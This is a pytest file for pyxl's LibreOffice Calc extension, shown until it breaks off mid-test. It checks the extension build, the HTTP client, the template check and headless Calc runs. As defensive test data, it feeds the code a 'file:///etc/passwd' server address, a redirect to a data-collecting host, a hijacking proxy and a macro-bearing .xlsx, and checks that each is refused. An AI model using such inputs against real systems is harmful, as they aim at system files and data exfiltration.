"""Issue 18: pyxl's functions and "Vorlage prüfen" in LibreOffice Calc — the extension pyxl.oxt.

First the extension as built (one source of truth, Python 3.8, standard library only, its HTTP core against hostile
servers), then for real: the .oxt built by the CLI, installed with ``unopkg`` into a throw-away profile, a real
``pyxl serve`` with sign-in on loopback, LibreOffice headless driven over UNO by ``tests/libreoffice_treiber.py``
(Debian's ``/usr/bin/python3`` with ``python3-uno``) — settings typed into the options page, formulas typed into
cells, the menu's commands run on the example forms.
"""

from __future__ import annotations

import ast
import contextlib
import datetime as dt
import http.server
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import openpyxl
import pytest
from defusedxml import ElementTree

from pyxl.excel import funktionen, skripte
from pyxl.excel.beispielaufrufe import BEISPIELAUFRUFE
from pyxl.excel.funktionen import beschreibung
from pyxl.excel.server import skript_ausfuehren
from pyxl.excel.xw import XlwingsError
from pyxl.functions import REGISTER, Eingabefehler
from pyxl.libreoffice import erweiterung
from pyxl.templates import formulare
from pyxl.validators.grenzen import AnfrageGrenzen
from tests.libreoffice_hilfen import TOKEN, Calc, laufendes_calc

OXT = Path(erweiterung.__file__).with_name("oxt")
BEISPIELE = Path(__file__).resolve().parents[1] / "xlsx_templates" / "beispiele"
EXCEL_NULL = dt.date(1899, 12, 30)  # Calc and Excel count days from here (after 1.3.1900)


kern = erweiterung.kern()


# -- the extension as built


@pytest.fixture(scope="module")
def oxt(tmp_path_factory) -> dict[str, bytes]:
    ziel = erweiterung.baue_erweiterung(tmp_path_factory.mktemp("oxt"))
    with zipfile.ZipFile(ziel) as archiv:
        return {name: archiv.read(name) for name in archiv.namelist()}


def test_1_every_registry_function_is_a_method_named_as_in_excel(oxt):
    idl = oxt["pyxl.idl"].decode()
    for name, eintrag in REGISTER.items():
        parameter = ", ".join(f"[in] any a{i}" for i in range(len(eintrag.argumente)))
        ergebnis = "sequence< sequence< double > >" if erweiterung.liefert_spalte(eintrag) else "any"
        assert f"{ergebnis} {name}({parameter});" in idl
    # the two calculators that return a column (Satzung Rotenburg Ziffer 1.8 and 6.1) return an array
    spalten = {n for n, e in REGISTER.items() if erweiterung.liefert_spalte(e)}
    assert spalten == {"OEPNV_ABSCHMELZUNG", "OEPNV_ABSCHLAEGE"}
    assert "any PYXL_MELDUNG([in] com::sun::star::beans::XPropertySet Dokument, " in idl


def test_1_wizard_texts_come_from_the_registry_as_in_excel(oxt):
    texte = json.loads(oxt["pythonpath/pyxl_lo_funktionen.json"])
    # the names the server's scripts use, carried in: the only sheet the extension may clear, the notes it may remove
    assert (texte["berichtsblatt"], texte["notiz"]) == (skripte.BERICHTSBLATT, skripte.NOTIZ)
    nach_name = {f["name"]: f for f in texte["funktionen"]}
    assert set(nach_name) == {*REGISTER, "PYXL_MELDUNG"}
    for name, eintrag in REGISTER.items():
        assert nach_name[name]["beschreibung"] == beschreibung(eintrag)  # the text Excel's wizard shows
        assert [a["name"] for a in nach_name[name]["argumente"]] == [a.name for a in eintrag.argumente]
        for argument, text in zip(eintrag.argumente, nach_name[name]["argumente"], strict=True):
            assert text["hilfe"].startswith(argument.hilfe)
    assert (
        nach_name["RZW_ZUWENDUNGSSATZ"]["beschreibung"].endswith("(RZWas 2005 Nr. 5.2)")
        or "RZWas 2005" in (nach_name["RZW_ZUWENDUNGSSATZ"]["beschreibung"])
    )


def test_1_every_file_parses_and_the_manifest_lists_what_is_there(oxt):
    for name, daten in oxt.items():
        if name.endswith((".xml", ".xcu", ".xcs", ".components")):
            ElementTree.fromstring(daten)
    ElementTree.fromstring(oxt["dialog/Einstellungen.xdl"], forbid_dtd=False)
    manifest = ElementTree.fromstring(oxt["META-INF/manifest.xml"])
    pfade = [e.get("{http://openoffice.org/2001/manifest}full-path") for e in manifest]
    assert pfade and all(p in oxt for p in pfade)
    assert b'identifier value="org.pyxl.libreoffice"' in oxt["description.xml"]


def test_1_menu_has_the_add_in_commands_and_one_entry_per_form(oxt):
    addons = oxt["Addons.xcu"].decode()
    for befehl in ("vorlage_pruefen", "beispiel_laden", "meldung"):
        assert f"service:org.pyxl.libreoffice.Befehle?{befehl}<" in addons
    for kennung in formulare():
        assert f"?neue_vorlage:{kennung}<" in addons
    assert ">Vorlage prüfen<" in addons and ">Neue Vorlage<" in addons


def test_1_options_page_has_the_fields_its_handler_reads(oxt):
    dialog = ElementTree.fromstring(oxt["dialog/Einstellungen.xdl"], forbid_dtd=False)
    felder = {e.get("{http://openoffice.org/2000/dialog}id") for e in dialog.iter()}
    code = oxt["pyxl_lo.py"].decode()
    for feld in ("Adresse", "Token", "Zeitlimit"):
        assert feld in felder and f'getControl("{feld}")' in code
    schema = oxt["Einstellungen.xcs"].decode()
    assert "<value>http://127.0.0.1:8000</value>" in schema  # loopback by default (pyxl serve's own default)


# standard modules this Python has that Python 3.8 has not (3.9: graphlib, zoneinfo; 3.11: tomllib)
NACH_3_8 = {"graphlib", "zoneinfo", "tomllib", "_tokenize", "_zoneinfo", "_tomllib"}


def test_1_extension_code_is_written_for_python_3_8_and_the_standard_library_only():
    """LibreOffice on Windows ships its own, older Python without pyxl's dependencies: the syntax of 3.8, modules
    it has (checked here; the code runs in the tests on Debian's 3.11 — no Windows run)."""
    eigene = {"uno", "unohelper", "com", "org", "pyxl_lo_kern", "pyxl_lo_aktionen"}
    erlaubt = (set(sys.stdlib_module_names) - NACH_3_8) | eigene
    dateien = sorted(OXT.rglob("*.py"))
    assert {d.name for d in dateien} == {"pyxl_lo.py", "pyxl_lo_kern.py", "pyxl_lo_aktionen.py"}
    for datei in dateien:
        baum = ast.parse(datei.read_text(encoding="utf-8"), feature_version=(3, 8))
        for knoten in ast.walk(baum):
            if isinstance(knoten, ast.Import):
                namen = [a.name for a in knoten.names]
            elif isinstance(knoten, ast.ImportFrom):
                namen = [knoten.module or ""]
            else:
                continue
            for name in namen:
                oben = name.split(".")[0]
                # pyxl itself only inside _lokal(), where its absence is expected (ImportError)
                assert oben in erlaubt or (oben == "pyxl" and datei.name == "pyxl_lo.py"), f"{datei.name}: {name}"


def test_1_the_same_pyxl_builds_the_same_bytes_and_never_overwrites(tmp_path):
    erste = erweiterung.baue_erweiterung(tmp_path)
    zweite = erweiterung.baue_erweiterung(tmp_path)
    assert (erste.name, zweite.name) == ("pyxl.oxt", "pyxl_2.oxt")
    assert erste.read_bytes() == zweite.read_bytes()


def test_1_an_administrator_sets_the_organisations_server_as_every_users_default(tmp_path):
    ziel = erweiterung.baue_erweiterung(tmp_path, "https://pyxl.kreis.de/")
    with zipfile.ZipFile(ziel) as archiv:
        assert "<value>https://pyxl.kreis.de</value>" in archiv.read("Einstellungen.xcs").decode()
    lauf = subprocess.run([sys.executable, "-m", "pyxl", "libreoffice", "erweiterung", "--ausgabe", str(tmp_path),
                           "--server", "file:///etc/passwd"], capture_output=True, text=True, check=False)  # fmt: skip
    assert lauf.returncode == 2 and "--server file:///etc/passwd: erwartet http(s)://" in lauf.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pyxl.oxt"]


def test_1_cli_writes_the_extension_and_refuses_a_file_as_folder(tmp_path):
    lauf = subprocess.run([sys.executable, "-m", "pyxl", "libreoffice", "erweiterung", "--ausgabe", str(tmp_path)],
                          capture_output=True, text=True, check=False)  # fmt: skip
    assert lauf.returncode == 0 and f"{tmp_path / 'pyxl.oxt'}" in lauf.stdout
    datei = tmp_path / "keinordner"
    datei.write_text("x")
    lauf = subprocess.run([sys.executable, "-m", "pyxl", "libreoffice", "erweiterung", "--ausgabe", str(datei)],
                          capture_output=True, text=True, check=False)  # fmt: skip
    assert lauf.returncode == 2 and lauf.stderr.startswith("Fehler: ") and "ist eine Datei, kein Ordner" in lauf.stderr
    assert datei.read_text() == "x"


# -- the extension's HTTP core against hostile or absent servers (what LibreOffice's Python runs)


class _Antwort(http.server.BaseHTTPRequestHandler):
    antworten: ClassVar[dict[str, tuple[int, dict, bytes]]] = {}
    gesehen: ClassVar[list[dict]] = []

    def do_POST(self):
        laenge = int(self.headers.get("Content-Length", 0))
        type(self).gesehen.append({"pfad": self.path, "kopf": dict(self.headers), "inhalt": self.rfile.read(laenge)})
        status, kopf, inhalt = type(self).antworten[self.path]
        self.send_response(status)
        for k, v in kopf.items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(inhalt)))
        self.end_headers()
        self.wfile.write(inhalt)

    def log_message(self, *_argumente):
        pass


@contextlib.contextmanager
def _server(antworten: dict[str, tuple[int, dict, bytes]]) -> Iterator[str]:
    _Antwort.antworten, _Antwort.gesehen = antworten, []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Antwort)
    faden = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    faden.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _senden(url: str, token: str = "", zeitlimit: float = 5):
    stand = kern.Einstellungen(url, token, zeitlimit)
    return lambda pfad, daten: kern.anfrage(stand, pfad, daten)


def test_2_a_call_sends_the_cells_as_the_excel_add_in_does_with_the_token():
    with _server({kern.FUNKTION: (200, {}, b'{"result": [[63.57]]}')}) as url:
        wert = kern.funktion(_senden(url, "geheim"), "RZW_ZUWENDUNGSSATZ", (((5000.0,),), None))
        gesendet = _Antwort.gesehen[0]
    assert wert == 63.57
    assert gesendet["kopf"]["Authorization"] == "Bearer geheim"
    # a range's empty cell ("" from Calc) is empty, an omitted last argument is left out
    assert json.loads(gesendet["inhalt"])["args"] == [[[5000.0]]]
    assert kern.argumente(((("a",), ("",)), None, None)) == [[["a"], [None]]]
    # #NV as the server sends it to a custom function (Office.js runtime 1.4): Calc's #NV is an empty result
    assert kern.zellwert([[{"type": "Error", "errorType": "NotAvailable"}]]) is None
    with pytest.raises(kern.PyxlFehler, match="unbekannten Zellwert"):
        kern.zellwert([[{"type": "Error", "errorType": "Value"}]])


def test_2_more_cells_than_the_server_takes_are_refused_before_sending(oxt):
    """AnfrageGrenzen.zellen_je_aufruf (200.000), carried into the extension: a whole column (1.048.576 cells) is
    said at once, never encoded and sent."""
    grenze = json.loads(oxt["pythonpath/pyxl_lo_funktionen.json"])["zellen_je_aufruf"]
    assert grenze == AnfrageGrenzen().zellen_je_aufruf

    def nie(_pfad, _daten):
        raise AssertionError("gesendet")

    spalte = tuple((1.0,) for _ in range(grenze + 1))
    with pytest.raises(kern.PyxlFehler) as fehler:
        kern.funktion(nie, "KZ_ANTEIL", (spalte, 1.0), grenze)
    assert str(fehler.value) == (
        "KZ_ANTEIL: 200.002 Zellen in den Argumenten (höchstens 200.000 je Aufruf) – bitte nur den benutzten "
        "Bereich übergeben, keine ganzen Spalten"
    )


def test_2_no_proxy_of_the_environment_and_no_redirect_are_followed(monkeypatch):
    """The clerk's numbers go to the configured server and nowhere else (IT-Strategie: no outside service)."""
    monkeypatch.setenv("http_proxy", "http://127.0.0.1:9")  # a proxy that would refuse: not used
    monkeypatch.setenv("HTTP_PROXY", "http://127.0.0.1:9")
    with _server({kern.FUNKTION: (302, {"Location": "http://example.org/sammeln"}, b"")}) as url:
        with pytest.raises(kern.PyxlFehler, match=re.escape("leitet nach „http://example.org/sammeln“ weiter")):
            kern.funktion(_senden(url), "KZ_ANTEIL", (45.0, 180.0))
        assert len(_Antwort.gesehen) == 1


@pytest.mark.parametrize("adresse", ["file:///etc/passwd", "ftp://server/", "127.0.0.1:8000", "http://nutzer:pw@h/"])
def test_2_an_address_that_is_no_http_server_is_refused_in_german(adresse):
    with pytest.raises(kern.PyxlFehler, match="Server-Adresse"):
        kern.funktion(_senden(adresse), "KZ_ANTEIL", (45.0, 180.0))


def test_2_the_servers_german_message_and_a_refused_sign_in_reach_the_clerk():
    meldung = "RZW_ZUWENDUNGSSATZ: AK = -5,0: muss größer als 0 sein (RZWas 2005 Anl. 2a Nr. 3.1)".encode()
    antworten = {kern.FUNKTION: (400, {}, meldung), kern.ERKLAEREN: (401, {}, b'{"detail": "Token unbekannt"}')}
    with _server(antworten) as url:
        with pytest.raises(kern.PyxlFehler) as fehler:
            kern.funktion(_senden(url), "RZW_ZUWENDUNGSSATZ", (-5.0,))
        assert str(fehler.value) == meldung.decode()
        assert kern.warum_nv(_senden(url), "RZW_ZUWENDUNGSSATZ", (-5.0,)) == (
            "Token unbekannt – bitte das Token in Extras › Optionen › pyxl › Server prüfen"
        )


def test_2_a_silent_server_costs_one_time_limit_then_fails_at_once():
    """A sheet with 200 formulas must not wait 200 time limits: after one, the server counts as unreachable."""
    stumm = socket.socket()
    stumm.bind(("127.0.0.1", 0))
    stumm.listen(50)  # accepts connections, never answers
    url = f"http://127.0.0.1:{stumm.getsockname()[1]}"
    try:
        start = time.monotonic()
        with pytest.raises(kern.PyxlFehler, match=r"nicht erreichbar \(keine Antwort nach 1 s\)"):
            kern.funktion(_senden(url, zeitlimit=1), "KZ_ANTEIL", (45.0, 180.0))
        erste = time.monotonic() - start
        start = time.monotonic()
        for _ in range(50):
            with pytest.raises(kern.PyxlFehler, match="nicht erreichbar"):
                kern.funktion(_senden(url, zeitlimit=1), "KZ_ANTEIL", (45.0, 180.0))
        danach = time.monotonic() - start
    finally:
        stumm.close()
        kern._gesperrt_bis.clear()
    assert 0.9 < erste < 3 and danach < 0.5


def test_2_a_server_that_is_not_pyxl_is_named_as_such():
    with _server({kern.FUNKTION: (200, {}, b"<html>Anmeldeportal</html>")}) as url:
        with pytest.raises(kern.PyxlFehler, match="keine Antwort eines pyxl-Servers"):
            kern.funktion(_senden(url), "KZ_ANTEIL", (45.0, 180.0))


@pytest.mark.parametrize(
    ("formel", "erwartet"),
    [
        ("=ORG.PYXL.LIBREOFFICE.FUNKTIONEN.RZW_ZUWENDUNGSSATZ(B5)", ("RZW_ZUWENDUNGSSATZ", ["B5"])),
        ("=KZ_ANTEIL(45;$Tabelle1.B2)", ("KZ_ANTEIL", ["45", "$Tabelle1.B2"])),
        ('=RZW_KRW_REGENBECKEN(500;"massiv; gemauert")', ("RZW_KRW_REGENBECKEN", ["500", '"massiv; gemauert"'])),
        ("=OEPNV_ABSCHMELZUNG(C1:C3;SUM(D1;D2))", ("OEPNV_ABSCHMELZUNG", ["C1:C3", "SUM(D1;D2)"])),
        ("=KZ_ANTEIL(1;2)+KZ_ANTEIL(3;4)", None),
        ("=A1", None),
    ],
)
def test_3_pyxl_meldung_reads_the_call_back_from_the_formula(formel, erwartet):
    assert kern.zerlege_aufruf(formel) == (erwartet if erwartet is None else (erwartet[0], erwartet[1]))


def test_3_pyxl_meldung_reads_values_and_references_and_refuses_expressions():
    assert kern.argument_lesen("5000.5") == ("wert", 5000.5)
    assert kern.argument_lesen('"gepfluegt"') == ("wert", "gepfluegt")
    assert kern.argument_lesen("$'Blatt 2'.$B$3:$'Blatt 2'.B9") == ("bezug", ("Blatt 2", "B3", "B9"))
    assert kern.argument_lesen("") == ("fehlt", None)
    with pytest.raises(kern.Ausdruck):
        kern.argument_lesen("B3*2")


# -- the server side: the document as .xlsx, checked with the gate, findings as notes


def _mappe(datei: Path, **extra: object) -> dict:
    blaetter = openpyxl.load_workbook(datei, read_only=True).sheetnames
    return {
        "client": "Office.js", "version": "0", "book": {"name": datei.name, "active_sheet_index": 0, "selection": "A1"},
        "names": [], "sheets": [{"name": n, "values": [[""]], "pictures": [], "tables": []} for n in blaetter],
        "properties": {}, "pyxl_notizen": True, **extra,
    }  # fmt: skip


def test_4_a_sent_document_gets_the_full_check_and_notes_at_the_cells():
    import base64

    datei = BEISPIELE / "RZWAS-3B_fehler_summe_geaendert.xlsx"
    mappe = _mappe(datei, pyxl_datei=base64.b64encode(datei.read_bytes()).decode())
    aktionen = json.loads(skript_ausfuehren("vorlage_pruefen", json.dumps(mappe).encode()))["actions"]
    notizen = [a for a in aktionen if a["func"] == "pyxlNotizen"]
    assert len(notizen) == 1
    frueher, neu = notizen[0]["args"]
    assert frueher == []
    # RZWas 2005 Anl. 2b Nr. 1.1: the sum of Anlage 3b was overwritten by a constant
    assert [(b, z) for b, z, _t in neu] == [("Anlage 3b", "H46")]
    assert neu[0][2].startswith("pyxl-Prüfung – Fehler: Formel überschrieben")
    # the Excel task pane asks for no notes and gets none
    ohne = {k: v for k, v in mappe.items() if k != "pyxl_notizen"}
    aktionen = json.loads(skript_ausfuehren("vorlage_pruefen", json.dumps(ohne).encode()))["actions"]
    assert "pyxlNotizen" not in [a["func"] for a in aktionen]


def test_4_a_sent_file_passes_the_gate_like_any_submission():
    import base64
    import io

    puffer = io.BytesIO()
    with zipfile.ZipFile(puffer, "w") as archiv:
        archiv.writestr("[Content_Types].xml", "<Types/>")
        archiv.writestr("xl/vbaProject.bin", b"\0" * 100)  # macros in an .xlsx
    mappe = _mappe(BEISPIELE / "RZWAS-3B_richtig.xlsx", pyxl_datei=base64.b64encode(puffer.getvalue()).decode())
    aktionen = json.loads(skript_ausfuehren("vorlage_pruefen", json.dumps(mappe).encode()))["actions"]
    werte = next(a["values"] for a in aktionen if a["func"] == "setValues")
    assert any("nicht prüfbar" in str(z) for zeile in werte for z in zeile)


def test_4_a_sent_file_that_is_no_base64_is_a_german_error():
    mappe = _mappe(BEISPIELE / "RZWAS-3B_richtig.xlsx", pyxl_datei="kein base64 ☹")
    with pytest.raises(XlwingsError, match=re.escape("„pyxl_datei“ ist kein Base64-Text einer .xlsx-Datei")):
        skript_ausfuehren("vorlage_pruefen", json.dumps(mappe).encode())


# -- for real: LibreOffice headless with the extension installed, a real pyxl serve with sign-in


@pytest.fixture(scope="module")
def calc() -> Iterator[Calc]:
    with laufendes_calc() as laufend:
        yield laufend


def _serienzahl(wert: object) -> object:
    return float((wert - EXCEL_NULL).days) if isinstance(wert, dt.date) else wert


def _blatt_mit_allen_funktionen() -> tuple[dict, dict, list, dict]:
    """One row per registry function: its example arguments in cells (a range in a column of its own), the
    formula in column A as a clerk types it; a function that returns a column also as an array formula."""
    werte, formeln, matrix, erwartet = {}, {}, [], {}
    spalte_frei = 12  # ranges from column M on
    for zeile, (name, argumente) in enumerate(sorted(BEISPIELAUFRUFE.items()), 1):
        bezuege, aufruf = [], list(argumente)
        while aufruf and aufruf[-1] is None:  # an omitted last argument is left out, as in Excel
            aufruf.pop()
        for nummer, wert in enumerate(aufruf):
            if isinstance(wert, list):
                buchstabe = openpyxl.utils.get_column_letter(spalte_frei)
                spalte_frei += 1
                for z, (zelle,) in enumerate(wert, 1):
                    if zelle is not None:
                        werte[f"{buchstabe}{z}"] = _serienzahl(zelle)
                bezuege.append(f"{buchstabe}1:{buchstabe}{len(wert)}")
            elif wert is None:
                bezuege.append("")
            else:
                adresse = f"{openpyxl.utils.get_column_letter(2 + nummer)}{zeile}"
                werte[adresse] = _serienzahl(wert)
                bezuege.append(adresse)
        formeln[f"A{zeile}"] = f"={name}({';'.join(bezuege)})"
        # the registry's own answer for the same cell values (dates as serial numbers, as Calc and Office.js pass)
        einzeln = [[[_serienzahl(z) for z in r] for r in a] if isinstance(a, list) else _serienzahl(a) for a in aufruf]
        ergebnis = funktionen.berechne(REGISTER[name], einzeln)
        erwartet[f"A{zeile}"] = ergebnis
        if isinstance(ergebnis, list):
            spalte = openpyxl.utils.get_column_letter(40 + len(matrix))  # a column of its own from AN on
            ziel = f"{spalte}1:{spalte}{len(ergebnis)}"
            matrix.append({"ziel": ziel, "formel": formeln[f"A{zeile}"]})
            erwartet[ziel] = ergebnis
    return werte, formeln, matrix, erwartet


@pytest.mark.langsam
def test_5_every_registry_function_in_calc_equals_the_registry(calc, tmp_path):
    werte, formeln, matrix, erwartet = _blatt_mit_allen_funktionen()
    formeln["Z1"] = "=RZW_ZUWENDUNGSSATZ(5000)"  # the "done": a clerk types it and sees 63,57
    os.chmod(tmp_path, 0o777)
    ergebnis = calc("formeln", {"werte": werte, "formeln": formeln, "matrix": matrix, "ods": str(tmp_path / "a.ods")})
    zellen = ergebnis["zellen"]
    # saved as .ods and opened again, every formula still computes the same (the guide: .ods is lossless)
    assert ergebnis["ods"] == {adresse: zellen[adresse]["wert"] for adresse in formeln}
    assert zellen["Z1"]["text"] == "63,57" and zellen["Z1"]["fehler"] == 0
    for adresse, soll in erwartet.items():
        if isinstance(soll, list) and ":" in adresse:  # array formula: the whole column
            assert [z[0] for z in zellen[adresse]["werte"]] == [w[0] for w in soll], adresse
        elif isinstance(soll, list):  # the same function in one cell: its first value, as Calc shows an array
            assert zellen[adresse]["fehler"] == 0 and zellen[adresse]["wert"] == soll[0][0], zellen[adresse]
        else:
            assert zellen[adresse]["fehler"] == 0, (formeln[adresse], zellen[adresse])
            assert zellen[adresse]["wert"] == soll, (formeln[adresse], zellen[adresse])
    # the names stay those of Excel: Calc's API spells the add-in's full name, the cell shows the short one
    assert zellen["A1"]["formel"].endswith(f".{formeln['A1'][1:]}") or zellen["A1"]["formel"] == formeln["A1"]


def _meldung(name: str, *werte: object) -> str:
    with pytest.raises(Eingabefehler) as fehler:
        REGISTER[name].auswerten(list(werte))
    return f"{name}: {fehler.value}"


@pytest.mark.langsam
def test_5_bad_input_shows_wert_and_pyxl_meldung_gives_field_value_and_clause(calc):
    formeln = {
        "A1": "=RZW_ZUWENDUNGSSATZ(-5)", "B1": "=PYXL_MELDUNG(A1)",
        "A2": "=RZW_ZUWENDUNGSSATZ(C2)", "B2": "=PYXL_MELDUNG(A2)",  # C2 empty: Calc passes 0
        "A3": "=RZW_KRW_WASSERLEITUNG(400)", "B3": "=PYXL_MELDUNG(A3)",  # no Kostenrichtwert above DN 300
        "A4": "=RZW_ZUWENDUNGSSATZ(C4*2)", "B4": "=PYXL_MELDUNG(A4)",
        "A5": "=RZW_ZUWENDUNGSSATZ(5000)", "B5": "=PYXL_MELDUNG(A5)",
        "A6": "=KZ_ANTEIL(45)", "B6": "=PYXL_MELDUNG(A6)",
        "A7": "=ROUND(RZW_ZUWENDUNGSSATZ(-5);0)", "B7": "=PYXL_MELDUNG(A7)",  # inside an expression
        "A8": "=1/0", "B8": "=PYXL_MELDUNG(A8)",  # an error, but not pyxl's
    }  # fmt: skip
    zellen = calc("formeln", {"werte": {"C4": -1}, "formeln": formeln})["zellen"]
    # #WERT! (Calc's error 519) where Excel shows #WERT!, #NV (32767) where the rule has no value
    assert [zellen[f"A{i}"]["fehler"] for i in range(1, 7)] == [519, 519, 32767, 519, 0, 519]
    assert zellen["B1"]["text"] == _meldung("RZW_ZUWENDUNGSSATZ", -5.0)  # RZWas 2005 Anl. 2a Nr. 3.1
    assert zellen["B2"]["text"] == (
        f"{_meldung('RZW_ZUWENDUNGSSATZ', 0.0)} (Hinweis: C2 ist leer – LibreOffice übergibt eine leere Zelle als 0, "
        "gerechnet wurde mit 0)"
    )
    assert "DN = 400" in zellen["B3"]["text"] and "Anl. 2a Nr. 2.6" in zellen["B3"]["text"]
    assert "Rechenausdruck" in zellen["B4"]["text"] and "C4*2" in zellen["B4"]["text"]
    assert zellen["B5"]["text"] == ""
    assert "KZ_ANTEIL erwartet 2 Argumente, erhalten: 1" in zellen["B6"]["text"]
    assert zellen["A7"]["fehler"] == 519 and zellen["B7"]["text"] == (
        "RZW_ZUWENDUNGSSATZ steht in einem Ausdruck – PYXL_MELDUNG liest nur eine Formel, die als Ganzes eine "
        "pyxl-Funktion ist; bitte den pyxl-Aufruf in eine eigene Zelle schreiben"
    )
    assert zellen["A8"]["fehler"] == 532 and zellen["B8"]["text"] == ""  # #DIV/0!: nothing of pyxl's to explain


@pytest.mark.langsam
def test_5_options_page_stores_per_user_and_an_unreachable_server_is_one_german_message(calc):
    stumm = socket.socket()
    stumm.bind(("127.0.0.1", 0))
    stumm.listen(50)
    try:
        stand = calc.einstellen(f"http://127.0.0.1:{stumm.getsockname()[1]}", zeitlimit="1")
        assert stand["gespeichert"]["Zeitlimit"] == 1 and stand["gezeigt"]["Zeitlimit"] == "1"
        formeln = {f"A{i}": f"=KZ_ANTEIL({i};180)" for i in range(1, 41)} | {"B1": "=PYXL_MELDUNG(A1)"}
        ergebnis = calc("formeln", {"werte": {}, "formeln": formeln})
        assert all(ergebnis["zellen"][f"A{i}"]["fehler"] == 519 for i in range(1, 41))
        assert "nicht erreichbar" in ergebnis["zellen"]["B1"]["text"]
        assert ergebnis["dauer"] < 10  # 40 formulas, not 40 time limits
        falsch = calc.einstellen("ftp://pyxl.kreis.de")  # refused: the stored address stays
        assert falsch["gespeichert"]["Adresse"] == f"http://127.0.0.1:{stumm.getsockname()[1]}"
        for zeitlimit in ("0", "601", "zwanzig"):  # refused (1 to 600 whole seconds): the stored one stays
            falsch = calc.einstellen(calc.server, zeitlimit=zeitlimit)
            assert falsch["gespeichert"]["Zeitlimit"] == 1 and falsch["gespeichert"]["Adresse"] != calc.server
    finally:
        stumm.close()
        stand = calc.einstellen(calc.server)
    assert stand["gespeichert"] == {"Adresse": calc.server, "Token": TOKEN, "Zeitlimit": 20}
    assert stand["gezeigt"]["Token"] == TOKEN


@pytest.mark.langsam
def test_5_without_an_address_pyxl_computes_in_libreoffices_own_python(calc):
    """Issue 18 point 2: where pyxl is importable in LibreOffice's Python, no server is needed."""
    try:
        stand = calc.einstellen("", token="")
        assert stand["gespeichert"]["Adresse"] == ""
        formeln = {"A1": "=RZW_ZUWENDUNGSSATZ(5000)", "A2": "=RZW_ZUWENDUNGSSATZ(-5)", "B2": "=PYXL_MELDUNG(A2)",
                   "A3": "=OEPNV_ABSCHMELZUNG(C1:C3;900000)"}  # fmt: skip
        werte = {"C1": 600_000, "C2": 300_000, "C3": 100_000.01}
        zellen = calc("formeln", {"werte": werte, "formeln": formeln})["zellen"]
        assert zellen["A1"]["text"] == "63,57"
        assert zellen["A2"]["fehler"] == 519 and zellen["B2"]["text"] == _meldung("RZW_ZUWENDUNGSSATZ", -5.0)
        assert zellen["A3"]["wert"] == 539999.99  # Satzung Rotenburg Ziffer 1.8: the first company's share
    finally:
        calc.einstellen(calc.server)


@pytest.mark.langsam
def test_5_a_wrong_token_says_so(calc):
    try:
        calc.einstellen(calc.server, token="falsch")
        zellen = calc("formeln", {"werte": {}, "formeln": {"A1": "=KZ_ANTEIL(1;2)", "B1": "=PYXL_MELDUNG(A1)"}})
        assert zellen["zellen"]["A1"]["fehler"] == 519
        assert "Token in Extras › Optionen › pyxl › Server prüfen" in zellen["zellen"]["B1"]["text"]
    finally:
        calc.einstellen(calc.server)


@pytest.mark.langsam
def test_5_vorlage_pruefen_marks_the_findings_and_a_second_check_clears_them(calc, tmp_path):
    """RZWas 2005 Anl. 2b Nr. 1.1: the total H46 of Anlage 3b overwritten by 1.500.000 — marked with a note, a fill
    and the report; corrected and checked again, the marks go and the report says 0 Fehler."""
    datei = tmp_path / "Antrag Abwasser.xlsx"
    shutil.copy(BEISPIELE / "RZWAS-3B_fehler_summe_geaendert.xlsx", datei)
    os.chmod(tmp_path, 0o755)
    pdf = tmp_path / "Prüfbericht.pdf"
    ergebnis = calc("pruefen", {"datei": str(datei), "korrekturen": [{"Anlage 3b!H46": "=SUM(H16:H44)"}],
                                "zellen": ["Anlage 3b!H46", "Anlage 3b!H16"], "pdf": str(pdf)})  # fmt: skip
    erste, zweite = ergebnis["runden"]
    assert erste["meldung"] == "Prüfung abgeschlossen: siehe Blatt „Prüfbericht“ und die Notizen an den Zellen."
    bericht = erste["blaetter"]["Prüfbericht"]
    assert ["Ergebnis", "geprüft – 1 Fehler, 0 Warnungen, 0 Hinweise"] == [w for w in bericht["zeilen"][8] if w != ""]
    assert bericht["zeilen"][10][:3] == ["Schwere", "Blatt", "Zelle"]
    assert bericht["zeilen"][11][:3] == ["Fehler", "Anlage 3b", "H46"]
    assert bericht["verweis"] == "#Anlage 3b.H46"  # the link jumps to the cell
    assert (bericht["titelzeile"], bericht["quer"], bericht["seiten_breit"]) == (11, True, 1)
    blatt = erste["blaetter"]["Anlage 3b"]
    assert list(blatt["notizen"]) == ["H46"]
    assert blatt["notizen"]["H46"].startswith("pyxl-Prüfung – Fehler: Formel überschrieben – durch einen festen Wert")
    assert "Erwartet: =SUMME(H16:H44)" in blatt["notizen"]["H46"]
    assert erste["fuellungen"] == {"Anlage 3b!H46": "F4CCCC", "Anlage 3b!H16": None}
    assert blatt["geschuetzt"] and blatt["seitenvorlage"] != "pyxl Prüfbericht"  # protected again, own print setup
    # corrected: the note and the fill go (a formula cell has no fill of its own), the report has no finding left
    assert zweite["blaetter"]["Anlage 3b"]["notizen"] == {}
    assert zweite["fuellungen"]["Anlage 3b!H46"] is None
    zeilen = zweite["blaetter"]["Prüfbericht"]["zeilen"]
    assert "geprüft – 0 Fehler" in zeilen[8][1]
    assert not any(z[2] == "H46" for z in zeilen[11:])
    assert datei.read_bytes() == (BEISPIELE / "RZWAS-3B_fehler_summe_geaendert.xlsx").read_bytes()  # never saved
    # printed: A4 landscape, the finding's message readable on the page
    seite = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    breite, hoehe = (float(x) for x in re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", seite).groups())
    assert (round(breite), round(hoehe)) == (842, 595)  # A4 landscape in points
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "Formel überschrieben" in text and "geprüft – 1 Fehler" in text


@pytest.mark.langsam
def test_5_menu_and_toolbar_are_there_and_the_menu_entry_checks_the_open_document(calc, tmp_path):
    datei = tmp_path / "Antrag.xlsx"
    shutil.copy(BEISPIELE / "RZWAS-3B_fehler_summe_geaendert.xlsx", datei)
    os.chmod(tmp_path, 0o755)
    ergebnis = calc("menue", {"datei": str(datei), "formel": "=RZW_ZUWENDUNGSSATZ(-5)"})
    assert ergebnis["menue"] == [
